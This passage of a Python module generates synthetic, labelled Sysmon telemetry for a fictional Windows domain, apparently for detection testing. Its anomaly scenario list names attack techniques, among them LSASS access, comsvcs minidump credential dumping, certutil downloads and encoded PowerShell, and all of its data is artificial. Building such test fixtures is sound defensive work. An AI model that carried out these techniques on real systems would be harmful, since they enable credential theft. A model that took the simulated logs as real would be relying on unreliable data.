"""Synthetic but realistic Windows Sysmon events from a small simulated fleet.

For demos, load tests and test fixtures. A fleet of `hosts` machines of the domain
`corp.example` (a few users each) boots, runs services and user programs with realistic parent
chains, and emits process creation (1), network (3), process terminate (5), image load (7),
process access (10), file create (11), registry (12/13) and DNS (22) events with full Sysmon field
sets. Events are generated lazily (constant memory) and deterministically from `seed`
(`random.Random(seed)`, no wall clock).

Every record carries its label in a side field that never reaches the canonical text:
`"sysmon_blt_sim": {"anomaly": bool, "scenario": "normal" | "novel" | <anomaly name>,
"span": <the anomalous field value> | None}`. `novel` marks never-seen benign behaviour
(anomaly false). Anomaly scenarios: see `ANOMALY_SCENARIOS`; each injects exactly one labelled
event, so the anomaly share of the stream is `anomaly_rate` in expectation; `span` is always one
of that event's field values verbatim.

The same `SimEvent` renders in every shape (`render(ev, shape)`): `winlogbeat8`, `nxlog`,
`evtxjson`, or `mixed` (winlogbeat8 or nxlog at random per event).
"""

from __future__ import annotations

import base64
import hashlib
import heapq
import random
import sys
import time
from collections import deque
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Any, Callable, Iterator

import orjson

__all__ = [
    "SimEvent", "generate", "render", "simulate_records", "write_jsonl", "produce_kafka",
    "SHAPES", "ANOMALY_SCENARIOS", "LABEL_KEY",
]

LABEL_KEY = "sysmon_blt_sim"
PROVIDER = "Microsoft-Windows-Sysmon"
PROVIDER_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
CHANNEL = "Microsoft-Windows-Sysmon/Operational"
DOMAIN_FQDN = "corp.example"
DOMAIN = "CORP"
SHAPES = ("winlogbeat8", "nxlog", "evtxjson", "mixed")
ANOMALY_SCENARIOS = (
    "encoded_powershell", "lsass_access", "comsvcs_minidump", "certutil_download",
    "winword_cmd", "rare_beacon", "runkey_persistence",
)
DEFAULT_START = datetime(2026, 1, 5, 8, 0, 0, tzinfo=timezone.utc)
_EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
_LOCAL_OFFSET_MS = -5 * 3600 * 1000  # NXLog EventTime: local time of the fleet (UTC-5)

# event id -> (message title, winlogbeat task, event version)
_META = {
    1: ("Process Create", "Process Create (rule: ProcessCreate)", 5),
    3: ("Network connection detected", "Network connection detected (rule: NetworkConnect)", 5),
    5: ("Process terminated", "Process terminated (rule: ProcessTerminate)", 3),
    7: ("Image loaded", "Image loaded (rule: ImageLoad)", 3),
    10: ("Process accessed", "Process accessed (rule: ProcessAccess)", 3),
    11: ("File created", "File created (rule: FileCreate)", 2),
    12: ("Registry object added or deleted", "Registry object added or deleted (rule: RegistryEvent)", 2),
    13: ("Registry value set", "Registry value set (rule: RegistryEvent)", 2),
    22: ("Dns query", "Dns query (rule: DnsQuery)", 5),
}
# EventData fields pyevtx-rs renders as numbers / booleans (Sysmon manifest types).
_INT_FIELDS = frozenset({
    "ProcessId", "ParentProcessId", "TerminalSessionId", "SourcePort", "DestinationPort",
    "SourceProcessId", "SourceThreadId", "TargetProcessId",
})
_BOOL_FIELDS = frozenset({"Initiated", "SourceIsIpv6", "DestinationIsIpv6"})

_SYS32 = "C:\\Windows\\System32\\"
_MS_CO = "Microsoft Corporation"
_MS_PROD = "Microsoft\u00ae Windows\u00ae Operating System"
_WIN_VER = "10.0.19041.3636 (WinBuild.160101.0800)"


@dataclass(slots=True)
class SimEvent:
    """One simulated Sysmon event, independent of any shape.

    `fields` holds the EventData fields as Sysmon renders them (all strings, Sysmon's order);
    `label` is the side label (`anomaly`, `scenario`, `span`).
    """

    event_id: int
    computer: str
    channel: str
    record_id: int
    utc_time: datetime
    fields: dict[str, str]
    label: dict[str, Any]
    sysmon_pid: int = 2284
    host_ip: str = "10.10.0.10"


# ------------------------------------------------------------------------------ catalogue


class _Img:
    """A program: path, version resource, original file name, integrity it usually runs at."""

    __slots__ = ("path", "name", "desc", "product", "company", "version", "orig", "dlls")

    def __init__(self, path: str, desc: str, orig: str | None = None, *, product: str = _MS_PROD,
                 company: str = _MS_CO, version: str = _WIN_VER, dlls: tuple[str, ...] = ()):
        self.path = path
        self.name = path.rsplit("\\", 1)[-1]
        self.desc = desc
        self.product = product
        self.company = company
        self.version = version
        self.orig = orig or self.name
        self.dlls = dlls


_BASE_DLLS = ("ntdll.dll", "kernel32.dll", "KernelBase.dll", "advapi32.dll", "msvcrt.dll",
              "sechost.dll", "rpcrt4.dll", "ucrtbase.dll", "combase.dll", "bcryptprimitives.dll")
_GUI_DLLS = ("user32.dll", "win32u.dll", "gdi32.dll", "gdi32full.dll", "imm32.dll", "shell32.dll",
             "ole32.dll", "oleaut32.dll", "uxtheme.dll", "dwmapi.dll", "windows.storage.dll",
             "shlwapi.dll", "SHCore.dll", "msctf.dll", "propsys.dll")
_NET_DLLS = ("ws2_32.dll", "mswsock.dll", "dnsapi.dll", "IPHLPAPI.DLL", "winhttp.dll",
             "wininet.dll", "crypt32.dll", "ncrypt.dll", "schannel.dll", "rasadhlp.dll",
             "FWPUCLNT.DLL", "secur32.dll", "sspicli.dll")
_PS_DLLS = ("mscoree.dll", "mscoreei.dll", "clr.dll", "clrjit.dll", "amsi.dll",
            "System.Management.Automation.ni.dll", "mscorlib.ni.dll", "System.ni.dll",
            "System.Core.ni.dll", "MpOav.dll")
_DLL_DESC = {
    "ntdll.dll": "NT Layer DLL", "kernel32.dll": "Windows NT BASE API Client DLL",
    "KernelBase.dll": "Windows NT BASE API Client DLL", "advapi32.dll": "Advanced Windows 32 Base API",
    "msvcrt.dll": "Windows NT CRT DLL", "sechost.dll": "Host for SCM/SDDL/LSA Lookup APIs",
    "rpcrt4.dll": "Remote Procedure Call Runtime", "ucrtbase.dll": "Microsoft\u00ae C Runtime Library",
    "combase.dll": "Microsoft COM for Windows", "user32.dll": "Multi-User Windows USER API Client DLL",
    "shell32.dll": "Windows Shell Common Dll", "ole32.dll": "Microsoft OLE for Windows",
    "ws2_32.dll": "Windows Socket 2.0 32-Bit DLL", "dnsapi.dll": "DNS Client API DLL",
    "winhttp.dll": "Windows HTTP Services", "wininet.dll": "Internet Extensions for Win32",
    "crypt32.dll": "Crypto API32", "amsi.dll": "Anti-Malware Scan Interface",
    "clr.dll": "Microsoft .NET Runtime Common Language Runtime - WorkStation",
    "dbghelp.dll": "Windows Image Helper", "comsvcs.dll": "COM+ Services",
    "vaultcli.dll": "Credential Vault Client Library", "samlib.dll": "SAM Library DLL",
}

_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
IMAGES = {
    "smss": _Img(_SYS32 + "smss.exe", "Windows Session Manager"),
    "csrss": _Img(_SYS32 + "csrss.exe", "Client Server Runtime Process"),
    "wininit": _Img(_SYS32 + "wininit.exe", "Windows Start-Up Application"),
    "winlogon": _Img(_SYS32 + "winlogon.exe", "Windows Logon Application"),
    "services": _Img(_SYS32 + "services.exe", "Services and Controller app"),
    "lsass": _Img(_SYS32 + "lsass.exe", "Local Security Authority Process"),
    "svchost": _Img(_SYS32 + "svchost.exe", "Host Process for Windows Services", dlls=_NET_DLLS),
    "spoolsv": _Img(_SYS32 + "spoolsv.exe", "Spooler SubSystem App"),
    "msmpeng": _Img("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe",
                    "Antimalware Service Executable", product="Microsoft\u00ae Windows\u00ae Operating System",
                    version="4.18.23110.3 (WinBuild.160101.0800)"),
    "userinit": _Img(_SYS32 + "userinit.exe", "Userinit Logon Application"),
    "explorer": _Img("C:\\Windows\\explorer.exe", "Windows Explorer", dlls=_GUI_DLLS),
    "taskhostw": _Img(_SYS32 + "taskhostw.exe", "Host Process for Windows Tasks"),
    "taskeng": _Img(_SYS32 + "taskeng.exe", "Task Scheduler Engine"),
    "wmiprvse": _Img(_SYS32 + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "Wmiprvse.exe"),
    "runtimebroker": _Img(_SYS32 + "RuntimeBroker.exe", "Runtime Broker"),
    "searchprot": _Img(_SYS32 + "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    "conhost": _Img(_SYS32 + "conhost.exe", "Console Window Host", "CONHOST.EXE"),
    "cmd": _Img(_SYS32 + "cmd.exe", "Windows Command Processor", "Cmd.Exe"),
    "powershell": _Img(_SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell",
                       "PowerShell.EXE", version="10.0.19041.3570 (WinBuild.160101.0800)", dlls=_PS_DLLS),
    "chrome": _Img(_CHROME, "Google Chrome", product="Google Chrome", company="Google LLC",
                   version="120.0.6099.130", dlls=_NET_DLLS + ("chrome_elf.dll", "chrome.dll")),
    "outlook": _Img(_OFFICE + "OUTLOOK.EXE", "Microsoft Outlook", "Outlook.exe",
                    product="Microsoft Outlook", version="16.0.17126.20132",
                    dlls=_NET_DLLS + ("OLMAPI32.DLL", "mso.dll", "mso20win32client.dll")),
    "winword": _Img(_OFFICE + "WINWORD.EXE", "Microsoft Word", "WinWord.exe",
                    product="Microsoft Office", version="16.0.17126.20132",
                    dlls=("mso.dll", "wwlib.dll", "mso20win32client.dll", "VBE7.DLL")),
    "excel": _Img(_OFFICE + "EXCEL.EXE", "Microsoft Excel", "Excel.exe",
                  product="Microsoft Office", version="16.0.17126.20132",
                  dlls=("mso.dll", "mso20win32client.dll", "VBE7.DLL")),
    "notepad": _Img(_SYS32 + "notepad.exe", "Notepad", "NOTEPAD.EXE"),
    "teams": _Img("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
                  "Microsoft Teams", product="Microsoft Teams", version="1.6.00.33567",
                  dlls=_NET_DLLS),
    "ipconfig": _Img(_SYS32 + "ipconfig.exe", "IP Configuration Utility", "ipconfig.exe"),
    "ping": _Img(_SYS32 + "PING.EXE", "TCP/IP Ping Command", "ping.exe"),
    "net": _Img(_SYS32 + "net.exe", "Net Command", "net.exe"),
    "gpupdate": _Img(_SYS32 + "gpupdate.exe", "Microsoft\u00ae Group Policy Update Utility", "GPUpdate.exe"),
    "git": _Img("C:\\Program Files\\Git\\cmd\\git.exe", "Git for Windows", product="Git",
                company="The Git Development Community", version="2.43.0.windows.1"),
    "python": _Img("C:\\Program Files\\Python311\\python.exe", "Python", product="Python",
                   company="Python Software Foundation", version="3.11.7"),
    "gupdate": _Img("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "Google Installer",
                    product="Google Update", company="Google LLC", version="1.3.36.352"),
    "defrag": _Img(_SYS32 + "Defrag.exe", "Disk Defragmenter Module", "Defrag.EXE"),
    "mpcmdrun": _Img("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
                     "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe",
                     version="4.18.23110.3 (WinBuild.160101.0800)"),
    "onedrive": _Img("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                     "Microsoft OneDrive", product="Microsoft OneDrive", version="23.246.1127.0002",
                     dlls=_NET_DLLS),
    "rundll32": _Img(_SYS32 + "rundll32.exe", "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "certutil": _Img(_SYS32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe"),
    "whoami": _Img(_SYS32 + "whoami.exe", "whoami - displays logged on user information", "whoami.exe"),
}

_SVC_GROUPS = (
    "-k DcomLaunch -p", "-k RPCSS -p", "-k LocalServiceNetworkRestricted -p -s lmhosts",
    "-k netsvcs -p -s Schedule", "-k netsvcs -p -s Winmgmt", "-k LocalService -p -s EventSystem",
    "-k NetworkService -p -s Dnscache", "-k netsvcs -p -s gpsvc", "-k LocalSystemNetworkRestricted -p -s SysMain",
    "-k netsvcs -p -s BITS", "-k wusvcs -p -s WaaSMedicSvc", "-k NetworkService -p -s CryptSvc",
    "-k LocalServiceNoNetwork -p", "-k netsvcs -p -s wuauserv", "-k appmodel -p -s StateRepository",
    "-k LocalServiceNetworkRestricted -p -s EventLog", "-k UnistackSvcGroup",
)

_DOCS = ("Q3 report.docx", "budget_2026.xlsx", "meeting notes.docx", "onboarding checklist.docx",
         "invoice_4471.xlsx", "roadmap draft.docx", "travel expenses.xlsx", "contract_review.docx")
_SITES = (
    ("www.google.com", "142.250.{a}.{b}"), ("outlook.office365.com", "52.96.{a}.{b}"),
    ("login.microsoftonline.com", "20.190.{a}.{b}"), ("teams.microsoft.com", "52.113.{a}.{b}"),
    ("www.bing.com", "13.107.21.{b}"), ("github.com", "140.82.{a}.{b}"),
    ("update.googleapis.com", "142.250.{a}.{b}"), ("ctldl.windowsupdate.com", "93.184.{a}.{b}"),
    ("settings-win.data.microsoft.com", "20.42.{a}.{b}"), ("www.wikipedia.org", "185.15.59.{b}"),
    ("slack.com", "3.{a}.{b}.10"), ("onedrive.live.com", "13.107.42.{b}"),
)
_SYLL = ("al", "be", "cor", "da", "en", "fi", "gra", "hal", "ix", "jo", "ka", "lum", "mer",
         "no", "or", "pax", "qu", "ra", "sol", "tri", "ul", "vex", "wil", "xen", "yo", "zen")
_FIRST = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
          "mallory", "nina", "oscar", "peggy", "rupert", "sybil", "trent", "ursula", "victor",
          "wendy", "yusuf", "zoe", "liam", "emma")
_LAST = ("smith", "jones", "miller", "davis", "garcia", "brown", "wilson", "moore", "taylor",
         "lee", "martin", "clark", "lewis", "walker", "hall", "young")
_HOST_ROLES = ("WS-FIN", "WS-HR", "WS-ENG", "WS-SALES", "WS-OPS", "WS-MKT", "WS-IT", "WS-LEG")


def _syllables(rng: random.Random, lo: int = 2, hi: int = 3) -> str:
    return "".join(rng.choice(_SYLL) for _ in range(rng.randint(lo, hi)))


# ------------------------------------------------------------------------------ fleet state


class _User:
    __slots__ = ("name", "account", "sid", "logon_id", "logon_guid", "session")

    def __init__(self, name: str, sid: str):
        self.name = name
        self.account = f"{DOMAIN}\\{name}"
        self.sid = sid
        self.logon_id = ""
        self.logon_guid = ""
        self.session = "1"


class _Proc:
    __slots__ = ("guid", "pid", "img", "path", "cmd", "cwd", "user", "logon_guid", "logon_id",
                 "session", "integrity", "parent", "kind")

    def __init__(self, guid: str, pid: int, img: _Img, path: str, cmd: str, cwd: str, user: str,
                 logon_guid: str, logon_id: str, session: str, integrity: str,
                 parent: _Proc | None, kind: str):
        self.guid = guid
        self.pid = pid
        self.img = img
        self.path = path
        self.cmd = cmd
        self.cwd = cwd
        self.user = user
        self.logon_guid = logon_guid
        self.logon_id = logon_id
        self.session = session
        self.integrity = integrity
        self.parent = parent
        self.kind = kind  # "core" (never ends), "app" (long-lived user/service), "short"


_NORMAL = "normal"


def _label(scenario: str = _NORMAL, span: str | None = None) -> dict[str, Any]:
    return {"anomaly": scenario not in (_NORMAL, "novel"), "scenario": scenario, "span": span}


class _Host:
    """One simulated machine: its clock, record counter, live process tree and pending events."""

    def __init__(self, sim: _Sim, idx: int, users: list[_User], hostpart: str):
        rng = sim.rng
        self.sim = sim
        self.rng = rng
        self.idx = idx
        role = _HOST_ROLES[idx % len(_HOST_ROLES)]
        self.short = f"{role}-{idx // len(_HOST_ROLES) + 1:02d}"
        self.fqdn = f"{self.short}.{DOMAIN_FQDN}"
        self.ip = f"10.10.{1 + idx // 200}.{20 + idx % 200}"
        self.hostpart = hostpart
        self.users = users
        self.sysmon_pid = 1800 + 4 * rng.randrange(0, 400)
        self.t_ms = rng.randrange(0, 2000)  # ms since the simulation start
        self.rid = rng.randrange(1000, 90000)
        self.guid_n = rng.randrange(0x1000, 0x9000)
        self.pending: deque[Callable[[], SimEvent]] = deque()
        self.alive: list[_Proc] = []  # every process that may act (created and not ended)
        self.apps: list[_Proc] = []   # long-lived processes that may end
        self.svc: dict[str, _Proc] = {}
        self.explorer: dict[str, _Proc] = {}
        self.utc_str = ""
        self.dt = sim.start
        self.booting = True  # until the boot chain is out, nothing else happens on this host
        self._boot()

    # -------------------------------------------------------------- identity and time

    def guid(self) -> str:
        self.guid_n += 1
        t = self.t_ms // 1000 + 0x659000
        return (f"{{{self.hostpart}-{(t >> 16) & 0xFFFF:04X}-{t & 0xFFFF:04X}-"
                f"{self.rng.getrandbits(16):04X}-{self.guid_n:012X}}}")

    def pid(self) -> int:
        return 4 * self.rng.randrange(100, 5000)

    def set_clock(self) -> None:
        dt = self.sim.start + timedelta(milliseconds=self.t_ms)
        self.dt = dt
        self.utc_str = (f"{dt.year:04d}-{dt.month:02d}-{dt.day:02d} {dt.hour:02d}:"
                        f"{dt.minute:02d}:{dt.second:02d}.{dt.microsecond // 1000:03d}")

    def make(self, eid: int, fields: dict[str, str], label: dict[str, Any] | None = None) -> SimEvent:
        self.rid += 1
        return SimEvent(eid, self.fqdn, CHANNEL, self.rid, self.dt, fields,
                        label or _label(), self.sysmon_pid, self.ip)

    # -------------------------------------------------------------- processes

    def new_proc(self, key: str, parent: _Proc | None, cmd: str, *, kind: str = "short",
                 user: _User | None = None, integrity: str | None = None,
                 img: _Img | None = None, cwd: str | None = None) -> _Proc:
        img = img or IMAGES[key]
        if user is None and parent is not None and parent.session != "0":
            user = self.sim.user_by_account.get(parent.user)
        if user is not None:
            path = img.path.replace("{user}", user.name)
            p = _Proc(self.guid(), self.pid(), img, path, cmd.replace("{path}", path),
                      cwd or f"C:\\Users\\{user.name}\\", user.account, user.logon_guid,
                      user.logon_id, user.session, integrity or "Medium", parent, kind)
        else:
            acct = parent.user if parent is not None and parent.user.startswith("NT AUTHORITY") \
                else "NT AUTHORITY\\SYSTEM"
            lid = {"NT AUTHORITY\\SYSTEM": "0x3e7", "NT AUTHORITY\\LOCAL SERVICE": "0x3e5",
                   "NT AUTHORITY\\NETWORK SERVICE": "0x3e4"}.get(acct, "0x3e7")
            lg = f"{{{self.hostpart}-0000-0000-{int(lid, 16) & 0xFF:02X}{int(lid, 16) >> 8:02X}-000000000000}}"
            p = _Proc(self.guid(), self.pid(), img, img.path, cmd.replace("{path}", img.path),
                      cwd or _SYS32, acct, lg, lid, "0", integrity or "System", parent, kind)
        return p

    def ev_create(self, p: _Proc, label: dict[str, Any] | None = None, track: bool = True) -> SimEvent:
        pp = p.parent
        img = p.img
        f = {
            "RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid, "ProcessId": str(p.pid),
            "Image": p.path, "FileVersion": img.version, "Description": img.desc,
            "Product": img.product, "Company": img.company, "OriginalFileName": img.orig,
            "CommandLine": p.cmd, "CurrentDirectory": p.cwd, "User": p.user,
            "LogonGuid": p.logon_guid, "LogonId": p.logon_id, "TerminalSessionId": p.session,
            "IntegrityLevel": p.integrity, "Hashes": self.sim.hashes(p.path),
            "ParentProcessGuid": pp.guid, "ParentProcessId": str(pp.pid), "ParentImage": pp.path,
            "ParentCommandLine": pp.cmd, "ParentUser": pp.user,
        }
        if track:
            self.alive.append(p)
            if p.kind == "app":
                self.apps.append(p)
        return self.make(1, f, label)

    def ev_term(self, p: _Proc) -> SimEvent:
        if p in self.alive:
            self.alive.remove(p)
        if p in self.apps:
            self.apps.remove(p)
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "User": p.user}
        return self.make(5, f)

    def ev_load(self, p: _Proc, dll: str, label: dict[str, Any] | None = None) -> SimEvent:
        path, ver, desc, prod, comp, orig, hashes, signer = self.sim.dll_info(dll)
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "ImageLoaded": path, "FileVersion": ver,
             "Description": desc, "Product": prod, "Company": comp, "OriginalFileName": orig,
             "Hashes": hashes, "Signed": "true", "Signature": signer, "SignatureStatus": "Valid",
             "User": p.user}
        return self.make(7, f, label)

    def ev_reg(self, p: _Proc, eid: int, etype: str, target: str, details: str | None,
               label: dict[str, Any] | None = None) -> SimEvent:
        f = {"RuleName": "-", "EventType": etype, "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "TargetObject": target}
        if eid == 13:
            f["Details"] = details or "-"
        f["User"] = p.user
        return self.make(eid, f, label)

    def ev_dns(self, p: _Proc, name: str, ip: str, label: dict[str, Any] | None = None) -> SimEvent:
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "QueryName": name, "QueryStatus": "0",
             "QueryResults": f"::ffff:{ip};", "Image": p.path, "User": p.user}
        return self.make(22, f, label)

    def ev_net(self, p: _Proc, dip: str, dport: int, pname: str, dhost: str = "-",
               proto: str = "tcp", label: dict[str, Any] | None = None) -> SimEvent:
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "User": p.user, "Protocol": proto,
             "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": self.ip,
             "SourceHostname": self.fqdn, "SourcePort": str(self.rng.randrange(49152, 65535)),
             "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": dip,
             "DestinationHostname": dhost, "DestinationPort": str(dport),
             "DestinationPortName": pname}
        return self.make(3, f, label)

    def ev_file(self, p: _Proc, target: str, label: dict[str, Any] | None = None) -> SimEvent:
        f = {"RuleName": "-", "UtcTime": self.utc_str, "ProcessGuid": p.guid,
             "ProcessId": str(p.pid), "Image": p.path, "TargetFilename": target,
             "CreationUtcTime": self.utc_str, "User": p.user}
        return self.make(11, f, label)

    def ev_access(self, src: _Proc, tgt: _Proc, access: str, trace: str,
                  label: dict[str, Any] | None = None) -> SimEvent:
        f = {"RuleName": "-", "UtcTime": self.utc_str, "SourceProcessGUID": src.guid,
             "SourceProcessId": str(src.pid), "SourceThreadId": str(4 * self.rng.randrange(50, 4000)),
             "SourceImage": src.path, "TargetProcessGUID": tgt.guid,
             "TargetProcessId": str(tgt.pid), "TargetImage": tgt.path, "GrantedAccess": access,
             "CallTrace": trace, "SourceUser": src.user, "TargetUser": tgt.user}
        return self.make(10, f, label)

    # -------------------------------------------------------------- boot

    def _push(self, fn: Callable[[], SimEvent]) -> None:
        self.pending.append(fn)

    def _spawn(self, key: str, parent: _Proc, cmd: str, *, kind: str = "short", loads: int = 2,
               **kw: Any) -> _Proc:
        """Queue a process creation, a few of its image loads, and (short-lived) its end."""
        p = self.new_proc(key, parent, cmd, kind=kind, **kw)
        self._push(lambda: self.ev_create(p))
        self._queue_loads(p, loads)
        return p

    def _queue_loads(self, p: _Proc, k: int) -> None:
        rng = self.rng
        pool = p.img.dlls
        for _ in range(k):
            dll = rng.choice(pool) if pool and rng.random() < 0.6 else rng.choice(_BASE_DLLS)
            self._push(lambda dll=dll: self.ev_load(p, dll))

    def _boot(self) -> None:
        rng = self.rng
        system = _Proc(f"{{{self.hostpart}-0000-0000-0000-000000000001}}", 4, IMAGES["smss"], "System",
                       "", "", "NT AUTHORITY\\SYSTEM", "", "0x3e7", "0", "System", None, "core")
        self.system = system
        smss = self._spawn("smss", system, "\\SystemRoot\\System32\\smss.exe", kind="core", loads=0)
        self._spawn("csrss", smss, "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows "
                    "SharedSection=1024,20480,768 Windows=On SubSystemType=Windows "
                    "ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 "
                    "ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16", kind="core", loads=0)
        wininit = self._spawn("wininit", smss, "wininit.exe", kind="core", loads=0)
        winlogon = self._spawn("winlogon", smss, "winlogon.exe", kind="core", loads=1)
        services = self._spawn("services", wininit, "C:\\Windows\\system32\\services.exe", kind="core",
                               loads=1)
        self.services = services
        self.lsass = self._spawn("lsass", wininit, "C:\\Windows\\system32\\lsass.exe", kind="core",
                                 loads=1)
        for grp in _SVC_GROUPS:
            acct = None
            if "NetworkService" in grp:
                acct = "NT AUTHORITY\\NETWORK SERVICE"
            elif "LocalService" in grp:
                acct = "NT AUTHORITY\\LOCAL SERVICE"
            p = self.new_proc("svchost", services, f"C:\\Windows\\system32\\svchost.exe {grp}",
                              kind="core")
            if acct:
                p.user = acct
                p.logon_id = "0x3e4" if "NETWORK" in acct else "0x3e5"
            self._push(lambda p=p: self.ev_create(p))
            self._queue_loads(p, 1)
            self.svc[grp.split()[1] if "-s" not in grp else grp.rsplit(" ", 1)[-1]] = p
        self._spawn("spoolsv", services, "C:\\Windows\\System32\\spoolsv.exe", kind="core", loads=1)
        self.msmpeng = self._spawn("msmpeng", services, '"' + IMAGES["msmpeng"].path + '"',
                                   kind="core", loads=2)
        for u in self.users:
            ui = self._spawn("userinit", winlogon, "C:\\Windows\\system32\\userinit.exe", user=u,
                             loads=0)
            ex = self._spawn("explorer", ui, "C:\\Windows\\Explorer.EXE", kind="core", user=u,
                             loads=2, cwd=_SYS32)
            self.explorer[u.account] = ex
            self._push(lambda ui=ui: self.ev_term(ui))
            if rng.random() < 0.7:
                self._spawn("onedrive", ex, '"{path}" /background', kind="app", loads=1)

    # -------------------------------------------------------------- normal behaviour

    def user(self) -> _User:
        return self.rng.choice(self.users)

    def user_proc(self) -> _Proc:
        """A live process running as an interactive user (explorer at least)."""
        rng = self.rng
        cands = [p for p in self.apps if p.session != "0"]
        if cands and rng.random() < 0.6:
            return rng.choice(cands)
        return self.explorer[self.user().account]

    def any_proc(self) -> _Proc:
        return self.rng.choice(self.alive)

    def step(self) -> SimEvent:
        if not self.pending:
            self._activity()
        ev = self.pending.popleft()()
        if self.booting and not self.pending:
            self.booting = False
        return ev

    def _activity(self) -> None:
        rng = self.rng
        r = rng.random()
        if r < 0.36:
            p = self.any_proc()
            self._queue_loads(p, rng.randint(1, 3))
        elif r < 0.68:
            for _ in range(rng.randint(1, 3)):
                self._push(self._registry_thunk())
        elif r < 0.82:
            self._network()
        elif r < 0.89:
            self._push(self._file_thunk())
        elif r < 0.94:
            self._push(self._access_thunk())
        elif r < 0.955 and len(self.apps) > 3:
            p = rng.choice(self.apps)
            self._push(lambda: self.ev_term(p))
        else:
            self._spawn_activity()

    def _spawn_activity(self) -> None:
        rng = self.rng
        r = rng.random()
        if r < 0.40:
            u = self.user()
            ex = self.explorer[u.account]
            k = rng.random()
            if len(self.apps) > 40:  # keep the pool bounded: end an app instead
                p = rng.choice(self.apps)
                self._push(lambda: self.ev_term(p))
            elif k < 0.30:
                ch = self._spawn("chrome", ex, '"{path}"', kind="app", loads=3)
                for _ in range(rng.randint(1, 3)):
                    self._spawn("chrome", ch, '"{path}" --type=renderer --display-capture-permissions-'
                                "policy-allowed --lang=en-US --device-scale-factor=1 "
                                f"--num-raster-threads=4 --renderer-client-id={rng.randint(5, 400)} "
                                "--mojo-platform-channel-handle=" + str(rng.randint(1000, 9999)) +
                                " /prefetch:1", kind="app", loads=1, cwd=self._chrome_dir())
            elif k < 0.45:
                self._spawn("outlook", ex, '"{path}"', kind="app", loads=3)
            elif k < 0.62:
                doc = rng.choice(_DOCS)
                key = "excel" if doc.endswith("xlsx") else "winword"
                self._spawn(key, ex, f'"{{path}}" /n "C:\\Users\\{u.name}\\Documents\\{doc}"',
                            kind="app", loads=3)
            elif k < 0.70:
                self._spawn("teams", ex, '"{path}" --process-start-type=autostart', kind="app",
                            loads=2)
            elif k < 0.80:
                p = self._spawn("notepad", ex, f'"{{path}}" C:\\Users\\{u.name}\\Documents\\notes.txt',
                                loads=1)
                self._push(lambda: self.ev_term(p))
            else:
                self._shell(ex, u)
        elif r < 0.55:
            grp = rng.choice(("-k netsvcs -p -s Appinfo", "-k LocalService -p -s fdPHost",
                              "-k netsvcs -p -s BITS", "-k LocalSystemNetworkRestricted -p -s TrkWks"))
            p = self._spawn("svchost", self.services, f"C:\\Windows\\system32\\svchost.exe {grp}",
                            loads=2)
            self._push(lambda: self.ev_term(p))
        elif r < 0.75:
            dcom = self.svc["DcomLaunch"]
            k = rng.random()
            if k < 0.5:
                p = self._spawn("wmiprvse", dcom, "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
                                "-secured -Embedding", loads=2, cwd=_SYS32)
            elif k < 0.8:
                u = self.user()
                p = self._spawn("runtimebroker", dcom, "C:\\Windows\\System32\\RuntimeBroker.exe "
                                "-Embedding", loads=1, user=u, cwd=_SYS32)
            else:
                p = self._spawn("searchprot", dcom, '"C:\\Windows\\system32\\SearchProtocolHost.exe" '
                                "Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 "
                                '1 -2147483646 "Software\\Microsoft\\Windows Search" '
                                '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
                                '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
                                loads=1, cwd=_SYS32)
            self._push(lambda: self.ev_term(p))
        else:
            self._scheduled_task()

    def _chrome_dir(self) -> str:
        return "C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\"

    def _shell(self, ex: _Proc, u: _User) -> None:
        rng = self.rng
        if rng.random() < 0.6:
            sh = self._spawn("cmd", ex, '"C:\\Windows\\system32\\cmd.exe" ', loads=1)
            kids = (("ipconfig", "ipconfig  /all"), ("ping", "ping  -n 4 10.10.0.5"),
                    ("net", "net  use"), ("git", '"{path}" status'), ("python", '"{path}" -m pip list'),
                    ("gpupdate", "gpupdate  /force"))
        else:
            sh = self._spawn("powershell", ex, '"{path}" ', loads=3)
            kids = (("git", '"{path}" pull'), ("python", '"{path}" build.py'),
                    ("ipconfig", '"{path}" /flushdns'), ("ping", '"{path}" github.com'))
